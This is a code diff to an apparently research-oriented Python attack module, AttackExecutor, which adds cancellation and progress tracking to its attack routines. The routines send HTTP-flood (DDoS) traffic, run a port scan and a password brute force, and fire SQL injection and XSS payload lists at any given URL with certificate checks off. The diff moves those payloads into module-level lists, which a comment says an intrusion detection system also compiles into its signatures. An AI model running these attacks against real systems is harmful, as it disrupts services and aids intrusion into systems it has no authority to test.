@@ -13,14 +13,115 @@ from urllib.parse import urlparse
 import random
 import string
 
+from job_progress import ProgressSlot
+
+# Payloads sent by the injection attacks and the SQL error texts that reveal a vulnerable target;
+# the IDS also compiles them into its built-in signatures
+SQL_PAYLOADS = [
+    "' OR '1'='1",
+    "' OR '1'='1' --",
+    "' OR '1'='1' /*",
+    "admin' --",
+    "admin' #",
+    "' UNION SELECT NULL--",
+    "' UNION SELECT NULL, NULL--",
+    "1' OR '1'='1",
+    "1' AND '1'='1",
+    "1' AND '1'='2",
+]
+
+XSS_PAYLOADS = [
+    "<script>alert('XSS')</script>",
+    "<img src=x onerror=alert('XSS')>",
+    "<svg onload=alert('XSS')>",
+    "javascript:alert('XSS')",
+    "<body onload=alert('XSS')>",
+    "<iframe src=javascript:alert('XSS')>",
+    "<input onfocus=alert('XSS') autofocus>",
+    "<select onfocus=alert('XSS') autofocus>",
+    "<textarea onfocus=alert('XSS') autofocus>",
+    "<keygen onfocus=alert('XSS') autofocus>",
+]
+
+SQL_ERROR_PATTERNS = [
+    "sql syntax",
+    "mysql_fetch",
+    "ORA-",
+    "PostgreSQL",
+    "SQLite",
+    "Warning: mysql",
+    "Microsoft OLE DB",
+]
+
+
+class CancellationToken:
+    """Stop signal for one attack, checked by the executor loops between batches
+
+    Cancelled explicitly, or implicitly once `deadline` (epoch seconds) passes.
+    """
+
+    def __init__(self, deadline: Optional[float] = None):
+        self.deadline = deadline
+        self.reason: Optional[str] = None
+        self._event = asyncio.Event()
+
+    def cancel(self, reason: str = "cancelled"):
+        if self.reason is None:
+            self.reason = reason
+            self._event.set()
+
+    @property
+    def cancelled(self) -> bool:
+        if self.reason is None and self.deadline is not None and time.time() >= self.deadline:
+            self.cancel("deadline exceeded")
+        return self.reason is not None
+
+    async def sleep(self, seconds: float):
+        """Pause between batches, waking up early on cancellation"""
+        if self.deadline is not None:
+            seconds = min(seconds, max(self.deadline - time.time(), 0))
+        try:
+            await asyncio.wait_for(self._event.wait(), seconds)
+        except asyncio.TimeoutError:
+            pass
+
 
 class AttackExecutor:
     """Executes real attacks for research and demonstration"""
     
     def __init__(self):
-        self.active_attacks: Dict[str, bool] = {}
+        # attack_id -> cancellation token / progress slot, from submission until the attack finishes
+        self.active_attacks: Dict[str, CancellationToken] = {}
+        self.progress: Dict[str, ProgressSlot] = {}
+    
+    def register(self, attack_id: str) -> CancellationToken:
+        token = self.active_attacks[attack_id] = CancellationToken()
+        return token
+    
+    def track(self, attack_id: str, interval: float, on_publish=None) -> ProgressSlot:
+        """Progress slot for an attack that is starting"""
+        slot = self.progress[attack_id] = ProgressSlot(interval, on_publish)
+        return slot
+    
+    def cancel(self, attack_id: str, reason: str = "cancelled") -> bool:
+        token = self.active_attacks.get(attack_id)
+        if token is None:
+            return False
+        token.cancel(reason)
+        return True
+    
+    def unregister(self, attack_id: str):
+        self.active_attacks.pop(attack_id, None)
+        self.progress.pop(attack_id, None)
     
-    async def execute_ddos(self, target_url: str, intensity: int, duration: int) -> Dict[str, Any]:
+    async def execute_ddos(
+        self,
+        target_url: str,
+        intensity: int,
+        duration: int,
+        token: Optional[CancellationToken] = None,
+        progress: Optional[ProgressSlot] = None
+    ) -> Dict[str, Any]:
         """Execute real DDoS attack"""
         if not target_url:
             raise ValueError("Target URL is required for DDoS attack")
@@ -33,6 +134,9 @@ class AttackExecutor:
         successful_requests = 0
         failed_requests = 0
         start_time = time.time()
+        token = token or CancellationToken()
+        progress = progress or ProgressSlot()
+        errors: Dict[str, int] = {}
         
         # Calculate requests per second based on intensity
         requests_per_second = intensity * 10  # Scale: 1-10 intensity = 10-100 req/s
@@ -44,7 +148,7 @@ class AttackExecutor:
         })
         
         async with httpx.AsyncClient(timeout=5.0, verify=False) as client:
-            while time.time() - start_time < duration:
+            while time.time() - start_time < duration and not token.cancelled:
                 tasks = []
                 for _ in range(requests_per_second):
                     tasks.append(self._make_request(client, target_url))
@@ -53,55 +157,65 @@ class AttackExecutor:
                 
                 for result in results:
                     requests_sent += 1
-                    if isinstance(result, Exception) or result is False:
-                        failed_requests += 1
-                    else:
+                    if isinstance(result, Exception):
+                        result = type(result).__name__
+                    if result is None:
                         successful_requests += 1
+                    else:
+                        failed_requests += 1
+                        errors[result] = errors.get(result, 0) + 1
+                
+                if progress.due():
+                    progress.publish({
+                        "requests_sent": requests_sent,
+                        "successful_requests": successful_requests,
+                        "failed_requests": failed_requests
+                    }, errors)
                 
-                await asyncio.sleep(1)  # Wait 1 second before next batch
+                await token.sleep(1)  # Wait 1 second before next batch
         
         return {
             "requests_sent": requests_sent,
             "successful_requests": successful_requests,
             "failed_requests": failed_requests,
             "duration": time.time() - start_time,
-            "average_rps": requests_sent / (time.time() - start_time) if (time.time() - start_time) > 0 else 0
+            "average_rps": requests_sent / (time.time() - start_time) if (time.time() - start_time) > 0 else 0,
+            "errors": errors
         }
     
-    async def _make_request(self, client: httpx.AsyncClient, url: str) -> bool:
-        """Make a single HTTP request"""
+    async def _make_request(self, client: httpx.AsyncClient, url: str) -> Optional[str]:
+        """Make a single HTTP request; returns None on success, else what went wrong"""
         try:
             response = await client.get(url, follow_redirects=True)
-            return response.status_code < 500
-        except Exception:
-            return False
+            return "http_5xx" if response.status_code >= 500 else None
+        except Exception as e:
+            return type(e).__name__
     
-    async def execute_sql_injection(self, target_url: str, intensity: int, duration: int) -> Dict[str, Any]:
+    async def execute_sql_injection(
+        self,
+        target_url: str,
+        intensity: int,
+        duration: int,
+        token: Optional[CancellationToken] = None,
+        progress: Optional[ProgressSlot] = None
+    ) -> Dict[str, Any]:
         """Execute SQL injection attack attempts"""
         if not target_url:
             raise ValueError("Target URL is required for SQL injection attack")
         
-        sql_payloads = [
-            "' OR '1'='1",
-            "' OR '1'='1' --",
-            "' OR '1'='1' /*",
-            "admin' --",
-            "admin' #",
-            "' UNION SELECT NULL--",
-            "' UNION SELECT NULL, NULL--",
-            "1' OR '1'='1",
-            "1' AND '1'='1",
-            "1' AND '1'='2",
-        ]
-        
         attempts = 0
         detected = 0
         vulnerable = 0
         start_time = time.time()
+        token = token or CancellationToken()
+        progress = progress or ProgressSlot()
+        errors: Dict[str, int] = {}
         
         async with httpx.AsyncClient(timeout=10.0, verify=False) as client:
-            while time.time() - start_time < duration:
-                for payload in sql_payloads[:intensity]:
+            while time.time() - start_time < duration and not token.cancelled:
+                for payload in SQL_PAYLOADS[:intensity]:
+                    if token.cancelled:
+                        break
                     attempts += 1
                     try:
                         # Try different injection points
@@ -115,35 +229,35 @@ class AttackExecutor:
                             response = await client.get(test_url, follow_redirects=True)
                             
                             # Check for SQL error patterns
-                            error_patterns = [
-                                "sql syntax",
-                                "mysql_fetch",
-                                "ORA-",
-                                "PostgreSQL",
-                                "SQLite",
-                                "Warning: mysql",
-                                "Microsoft OLE DB",
-                            ]
-                            
                             response_text = response.text.lower()
-                            if any(pattern in response_text for pattern in error_patterns):
+                            if any(pattern in response_text for pattern in SQL_ERROR_PATTERNS):
                                 vulnerable += 1
                                 detected += 1
                             elif response.status_code == 500:
                                 detected += 1
                     except Exception as e:
-                        pass
+                        errors[type(e).__name__] = errors.get(type(e).__name__, 0) + 1
                     
-                    await asyncio.sleep(0.5)
+                    if progress.due():
+                        progress.publish({"attempts": attempts, "detected": detected, "vulnerable": vulnerable}, errors)
+                    await token.sleep(0.5)
         
         return {
             "attempts": attempts,
             "detected": detected,
             "vulnerable": vulnerable,
-            "duration": time.time() - start_time
+            "duration": time.time() - start_time,
+            "errors": errors
         }
     
-    async def execute_port_scan(self, target_url: str, intensity: int, duration: int) -> Dict[str, Any]:
+    async def execute_port_scan(
+        self,
+        target_url: str,
+        intensity: int,
+        duration: int,
+        token: Optional[CancellationToken] = None,
+        progress: Optional[ProgressSlot] = None
+    ) -> Dict[str, Any]:
         """Execute port scanning attack"""
         if not target_url:
             raise ValueError("Target URL is required for port scan")
@@ -162,9 +276,12 @@ class AttackExecutor:
         closed_ports = []
         filtered_ports = []
         start_time = time.time()
+        token = token or CancellationToken()
+        progress = progress or ProgressSlot()
+        errors: Dict[str, int] = {}
         
         for port in ports_to_scan:
-            if time.time() - start_time > duration:
+            if time.time() - start_time > duration or token.cancelled:
                 break
             
             try:
@@ -178,10 +295,18 @@ class AttackExecutor:
                     closed_ports.append(port)
                 
                 sock.close()
-            except Exception:
+            except Exception as e:
                 filtered_ports.append(port)
+                errors[type(e).__name__] = errors.get(type(e).__name__, 0) + 1
             
-            await asyncio.sleep(0.1)
+            if progress.due():
+                progress.publish({
+                    "scanned": len(open_ports) + len(closed_ports) + len(filtered_ports),
+                    "open": len(open_ports),
+                    "closed": len(closed_ports),
+                    "filtered": len(filtered_ports)
+                }, errors)
+            await token.sleep(0.1)
         
         return {
             "host": host,
@@ -189,10 +314,18 @@ class AttackExecutor:
             "closed_ports": closed_ports,
             "filtered_ports": filtered_ports,
             "total_scanned": len(ports_to_scan),
-            "duration": time.time() - start_time
+            "duration": time.time() - start_time,
+            "errors": errors
         }
     
-    async def execute_brute_force(self, target_url: str, intensity: int, duration: int) -> Dict[str, Any]:
+    async def execute_brute_force(
+        self,
+        target_url: str,
+        intensity: int,
+        duration: int,
+        token: Optional[CancellationToken] = None,
+        progress: Optional[ProgressSlot] = None
+    ) -> Dict[str, Any]:
         """Execute brute force attack simulation"""
         if not target_url:
             raise ValueError("Target URL is required for brute force attack")
@@ -207,10 +340,15 @@ class AttackExecutor:
         attempts = 0
         blocked = 0
         start_time = time.time()
+        token = token or CancellationToken()
+        progress = progress or ProgressSlot()
+        errors: Dict[str, int] = {}
         
         async with httpx.AsyncClient(timeout=5.0, verify=False) as client:
-            while time.time() - start_time < duration:
+            while time.time() - start_time < duration and not token.cancelled:
                 for password in common_passwords[:intensity * 2]:
+                    if token.cancelled:
+                        break
                     attempts += 1
                     try:
                         # Simulate login attempt
@@ -225,43 +363,45 @@ class AttackExecutor:
                         elif response.status_code == 200:
                             # Potential success (in real scenario, check response content)
                             pass
-                    except Exception:
-                        pass
+                    except Exception as e:
+                        errors[type(e).__name__] = errors.get(type(e).__name__, 0) + 1
                     
-                    await asyncio.sleep(0.2)
+                    if progress.due():
+                        progress.publish({"attempts": attempts, "blocked": blocked}, errors)
+                    await token.sleep(0.2)
         
         return {
             "attempts": attempts,
             "blocked": blocked,
-            "duration": time.time() - start_time
+            "duration": time.time() - start_time,
+            "errors": errors
         }
     
-    async def execute_xss(self, target_url: str, intensity: int, duration: int) -> Dict[str, Any]:
+    async def execute_xss(
+        self,
+        target_url: str,
+        intensity: int,
+        duration: int,
+        token: Optional[CancellationToken] = None,
+        progress: Optional[ProgressSlot] = None
+    ) -> Dict[str, Any]:
         """Execute XSS attack attempts"""
         if not target_url:
             raise ValueError("Target URL is required for XSS attack")
         
-        xss_payloads = [
-            "<script>alert('XSS')</script>",
-            "<img src=x onerror=alert('XSS')>",
-            "<svg onload=alert('XSS')>",
-            "javascript:alert('XSS')",
-            "<body onload=alert('XSS')>",
-            "<iframe src=javascript:alert('XSS')>",
-            "<input onfocus=alert('XSS') autofocus>",
-            "<select onfocus=alert('XSS') autofocus>",
-            "<textarea onfocus=alert('XSS') autofocus>",
-            "<keygen onfocus=alert('XSS') autofocus>",
-        ]
-        
         attempts = 0
         detected = 0
         vulnerable = 0
         start_time = time.time()
+        token = token or CancellationToken()
+        progress = progress or ProgressSlot()
+        errors: Dict[str, int] = {}
         
         async with httpx.AsyncClient(timeout=10.0, verify=False) as client:
-            while time.time() - start_time < duration:
-                for payload in xss_payloads[:intensity]:
+            while time.time() - start_time < duration and not token.cancelled:
+                for payload in XSS_PAYLOADS[:intensity]:
+                    if token.cancelled:
+                        break
                     attempts += 1
                     try:
                         test_urls = [
@@ -279,16 +419,19 @@ class AttackExecutor:
                                 detected += 1
                             elif response.status_code == 400 or response.status_code == 403:
                                 detected += 1
-                    except Exception:
-                        pass
+                    except Exception as e:
+                        errors[type(e).__name__] = errors.get(type(e).__name__, 0) + 1
                     
-                    await asyncio.sleep(0.5)
+                    if progress.due():
+                        progress.publish({"attempts": attempts, "detected": detected, "vulnerable": vulnerable}, errors)
+                    await token.sleep(0.5)
         
         return {
             "attempts": attempts,
             "detected": detected,
             "vulnerable": vulnerable,
-            "duration": time.time() - start_time
+            "duration": time.time() - start_time,
+            "errors": errors
         }
 
 